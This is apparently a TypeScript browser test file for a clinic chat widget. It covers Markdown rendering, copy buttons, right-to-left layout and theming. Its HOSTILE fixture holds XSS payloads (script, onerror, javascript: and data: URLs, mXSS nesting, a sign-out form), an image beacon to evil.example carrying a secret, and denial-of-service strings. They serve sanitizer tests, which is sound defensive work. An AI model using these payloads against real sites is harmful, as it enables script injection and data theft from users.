// What a reply may look like and what it may not do, and the widget in somebody else's words and colours.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exchangeOf } from '../support/chat-route.ts'
import { faultsOf } from './support/axe.ts'
import { openWidgetFixture, photograph, type WidgetFixture } from './support/widget.ts'

let fixture: WidgetFixture
beforeAll(async () => {
  fixture = await openWidgetFixture()
})
afterAll(() => fixture.close())

const replying = (reply: string) => ({
  arrange: (room: object) => {
    Object.assign(room, { answer: () => ({ reply }) })
  }
})

const RICH = `### The plan

Here it is for **Friday**, see [the calendar](https://calendar.example.com/week):

1. Move Señora Ortega to \`9:15\`
2. Call *Carmen Ruiz*
   - [x] about Monday
   - [ ] about the invoice

#### The script

\`\`\`bash
curl -s https://clinic.example.com/api/appointments?day=friday | jq '.[] | select(.doctor == "Ferrer")'
\`\`\`

| Doctor | Monday | Friday |
|---|---:|---:|
| Ferrer | 12 | 9 |

> New patients need thirty minutes.

# And then

\`\`\`
plain
\`\`\``

const HOSTILE = `
<script>document.title = 'owned'</script><img src=x onerror="document.title='owned'">
<svg onload="document.title='owned'"><style>* { display: none }</style><iframe src="/page/x"></iframe>
<form action="/sign-out" method="post"><button>Press me</button></form><a href="#" id="content" name="body">dom</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
[script](javascript:document.title='owned') [data](data:text/html,<script>alert(1)</script>) [own](/sign-out)
[vb](vbscript:x) [space](java
script:x) <javascript:alert(1)> ![](https://evil.example/?secret=1) ![pixel](https://evil.example/p.gif "x\\" onerror=\\"y")
[ok](https://good.example/?a=1&b=2) <b style="position:fixed;inset:0">bold</b>
\`\`\`"><img/src=x/onerror=document.title='owned'>
<img src=x onerror="document.title='owned'">
\`\`\`
`

/** Each takes Marked seconds to minutes, or all of the stack, when it is let loose on them. */
const ENTANGLED = {
  brackets: '['.repeat(4_000),
  stars: '*a_'.repeat(1_300),
  words: `${'*a_'.repeat(1_000)} `.repeat(15),
  long: `${'a.'.repeat(30_000)}@`,
  quotes: '> '.repeat(2_000),
  lists: Array.from({ length: 150 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  addresses: 'http://a.b/('.repeat(300),
  table: `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n`
}

describe('a reply', () => {
  it('is Markdown with code, tables and headings that fit the page', () =>
    fixture.on(replying(RICH), async ({ page, say, log, button, status, complaints }) => {
      await say('Plan Friday')
      await log.getByText('The plan').waitFor()
      const headings = await log
        .getByRole('heading')
        .evaluateAll((all) => all.map(({ localName }) => localName))
      // Written as levels 3, 4 and 1, below the page's own first.
      expect(headings).toEqual(['h2', 'h3', 'h2'])
      expect(
        await log.getByRole('link').evaluateAll((all) => all.map((link) => link.getAttribute('rel')))
      ).toEqual(['noopener noreferrer nofollow'])
      expect(await log.getByText('☑').textContent()).toContain('about Monday')
      await photograph(page, 'rich')
      expect(await faultsOf(page)).toEqual([])
      await button('Copy code').first().click()
      await button('Copied').waitFor()
      const clipboard = () => page.evaluate('navigator.clipboard.readText()')
      expect(await clipboard()).toContain('select(.doctor == "Ferrer")')
      expect(await status.textContent()).toBe('Copied')
      await button('Copy reply').click()
      await expect.poll(clipboard).toBe(RICH)
      expect(complaints()).toEqual([])
    }))

  it('does nothing, loads nothing and leads nowhere but to the web', () =>
    fixture.on(replying(HOSTILE), async ({ page, say, log, complaints }) => {
      const asked: string[] = []
      page.on('request', (request) => asked.push(request.url()))
      await say('Plan Friday')
      await log.getByText('ok', { exact: true }).waitFor()
      expect(await page.title()).toBe('Clínica Sol')
      const found = await log.locator('.prose').evaluate((prose) => ({
        tags: [...new Set([...prose.querySelectorAll('*')].map(({ localName }) => localName))],
        attributes: [...new Set([...prose.querySelectorAll('*')].flatMap((one) => one.getAttributeNames()))],
        links: [...prose.querySelectorAll('a')].map((link) => link.getAttribute('href'))
      }))
      for (const tag of ['script', 'img', 'svg', 'style', 'iframe', 'form', 'math', 'b']) {
        expect(found.tags).not.toContain(tag)
      }
      expect(found.attributes.filter((name) => /^on|style|^id$|^name$|src/.test(name))).toEqual([])
      expect(found.links).toContain('https://good.example/?a=1&b=2')
      for (const link of found.links) expect(link).toMatch(/^https:\/\/(good|evil)\.example\//)
      expect(asked.filter((url) => !url.startsWith(fixture.url) && !url.startsWith('data:'))).toEqual([])
      expect(complaints()).toEqual([])
    }))

  it('that is enormous is shown in part, as it is, and copied whole', () => {
    const enormous = `<b>${'[a](b '.repeat(160_000)}`
    return fixture.on(replying(enormous), async ({ page, say, log, button }) => {
      await say('Everything')
      await log.getByText('The rest is too long to be shown here.').waitFor()
      await button('Copy reply').click()
      await button('Copied').waitFor()
      expect(await page.evaluate('navigator.clipboard.readText().then((text) => text.length)')).toBe(
        enormous.length
      )
    })
  })

  it('that is entangled as nobody writes by hand doesn’t hold up the page', () =>
    fixture.on(
      {
        arrange: ({ exchanges }) => {
          for (const [key, reply] of Object.entries(ENTANGLED)) exchanges.push(exchangeOf({ key, reply }))
        }
      },
      async ({ log, box }) => {
        await log
          .locator('.prose')
          .nth(Object.keys(ENTANGLED).length - 1)
          .waitFor()
        await box.fill('still alive')
        expect(await box.inputValue()).toBe('still alive')
      }
    ))
})

describe('a message', () => {
  it('is shown as it was written', () =>
    fixture.on({}, async ({ page, say, log }) => {
      const message = '<b>**bold**</b> `code`  two spaces\n\n<img src=x onerror="document.title=1">'
      await say(message)
      const bubble = log.locator('.bubble')
      await bubble.waitFor()
      expect(await bubble.textContent()).toBe(message)
      expect(await page.title()).toBe('Clínica Sol')
    }))
})

describe('a page’s own', () => {
  it('words and direction are the widget’s', () =>
    fixture.on(
      {
        query: {
          lang: 'ar',
          dir: 'rtl',
          name: 'آدا',
          texts: JSON.stringify({
            send: 'إرسال',
            today: 'اليوم',
            placeholder: 'اكتب إلى {name}',
            copyReply: 'نسخ',
            keys: 'Enter للإرسال'
          })
        },
        ...replying('نقبل **Sanitas** و DKV.\n\n- أولا\n- ثانيا\n\n```js\nconst a = 1\n```\n\nIn English.')
      },
      async ({ page, say, log, box, button }) => {
        await page.getByPlaceholder('اكتب إلى آدا').waitFor()
        await say('ما هي شركات التأمين؟')
        await log.getByText('نقبل').waitFor()
        await log.getByText('اليوم', { exact: true }).waitFor()
        const send = await button('إرسال').boundingBox()
        const field = await box.boundingBox()
        expect(send?.x).toBeLessThan(field?.x ?? 0)
        const english = await log
          .getByText('In English.')
          .evaluate((element) => Reflect.get(globalThis, 'getComputedStyle')(element).unicodeBidi)
        expect(english).toBe('plaintext')
        await photograph(page, 'rtl')
        expect(await faultsOf(page)).toEqual([])
      }
    ))

  it('colours are the widget’s, and its styles stay outside', () =>
    fixture.on({ query: { theme: 'themed' } }, async ({ page, box, button }) => {
      await box.fill('hello')
      const colour = (property: string) =>
        button('Send message').evaluate(
          (element, name) => Reflect.get(globalThis, 'getComputedStyle')(element)[name],
          property
        )
      expect(await colour('backgroundColor')).toBe('oklch(0.55 0.15 30)')
      expect(await colour('color')).toBe('rgb(255, 255, 255)')
      await page.addStyleTag({ url: '/page.css' })
      expect(await page.evaluate("getComputedStyle(document.querySelector('h1')).paddingTop")).toBe('16px')
      await photograph(page, 'themed')
    }))

  it('scheme decides between light and dark', () =>
    fixture.on({}, async ({ page }) => {
      const surface = () =>
        page.evaluate(
          "getComputedStyle(document.querySelector('mindgate-chat').shadowRoot.querySelector('.chat')).backgroundColor"
        )
      await page.emulateMedia({ colorScheme: 'dark' })
      const dark = await surface()
      // A page that is light however the system is set.
      await page.evaluate("document.documentElement.style.colorScheme = 'light'")
      expect(await surface()).not.toBe(dark)
    }))
})
